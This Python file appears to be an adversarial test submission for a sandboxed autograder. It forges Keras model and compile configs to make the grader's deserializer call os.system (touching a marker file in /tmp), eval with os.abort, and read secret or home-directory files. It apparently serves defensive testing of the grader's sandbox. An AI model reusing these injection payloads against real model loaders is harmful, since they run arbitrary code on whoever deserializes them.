# mechanism: a forged description whose module, class and function names name any callable
# success: a callable of the forger's choice runs in the grader, which leaves a file in /tmp
# assignment: 08_parameter_counting

# %%
import itertools
import json
import sys

import numpy as np

values = sys.modules["autograder.sandbox.inside.protocol.values"]
plant = "touch /tmp/planted-by-mallory-config"
function = {"module": "builtins", "class_name": "function", "registered_name": "function"}
command = {"module": "os", "class_name": "system", "config": {"command": plant}}
evaluated = {"module": "builtins", "class_name": "eval", "config": "__import__('os').abort()"}
dense = {"units": 3, "activation": "linear", "use_bias": True, "name": "d"}


def layer(name, config, module="keras.layers", registered=None):
    return {
        "module": module,
        "class_name": name,
        "registered_name": registered,
        "config": config,
        "build_config": {"input_shape": [None, 3]},
    }


descriptions = [
    layer("system", {"command": plant}, module="os"),
    layer("Dense", dense, registered="os>system"),
    layer("Dense", dense, module="keras.src.legacy.saving.serialization"),
    layer("Lambda", {"name": "l", "function": {**function, "config": "system"}}),
    layer("Dense", {**dense, "activation": {**function, "module": "os", "config": "abort"}}),
    layer("Dense", {**dense, "activation": command}),
    layer("Dense", {**dense, "kernel_initializer": command, "dtype": evaluated}),
    layer("Dense", {**dense, "kernel_regularizer": evaluated}),
    layer("Dense", {**dense, "kernel_constraint": command}),
    layer("TorchModuleWrapper", {"module": "gASV", "name": "t"}),
    layer("TextVectorization", {"vocabulary": "@CANARY@", "name": "v"}),
    layer("StringLookup", {"vocabulary": "@HOME@/secret.txt", "name": "v"}),
    layer("__class__", {}),
    layer("TFSMLayer", {"filepath": "@HOME@", "name": "s"}),
]
turns = itertools.cycle(descriptions)
adam = {"module": "keras.optimizers", "class_name": "Adam", "config": {"learning_rate": 0.1}}
compiled = itertools.cycle(
    [
        {"optimizer": command},
        {"optimizer": {**adam, "config": {"learning_rate": evaluated}}},
        {"optimizer": adam, "loss": evaluated},
        {"optimizer": adam, "loss": {**function, "config": "system"}},
        {"optimizer": adam, "loss": "mse", "metrics": [[[command]], evaluated]},
        {"optimizer": {**adam, "config": {"learning_rate": 0.1, "name": plant, "clipvalue": {}}}},
    ]
)
honest = layer("Dense", {"units": 2, "activation": "linear", "name": "d"})


def build_mlp(inputs, units, activations):
    shape = layer("InputLayer", {"batch_shape": [None, inputs], "dtype": "float32", "name": "i"})
    settings = json.dumps(next(compiled)).encode()
    layers = [shape, honest if len(units) == 3 else next(turns)]
    config = {"name": "m", "trainable": True, "layers": layers}
    text = {"class_name": "Sequential", "config": config, "compile_config": {"loss": evaluated}}
    weights = [np.zeros((inputs, 2), np.float32), np.zeros(2, np.float32)]
    return values.Model(json.dumps(text).encode(), weights, settings)
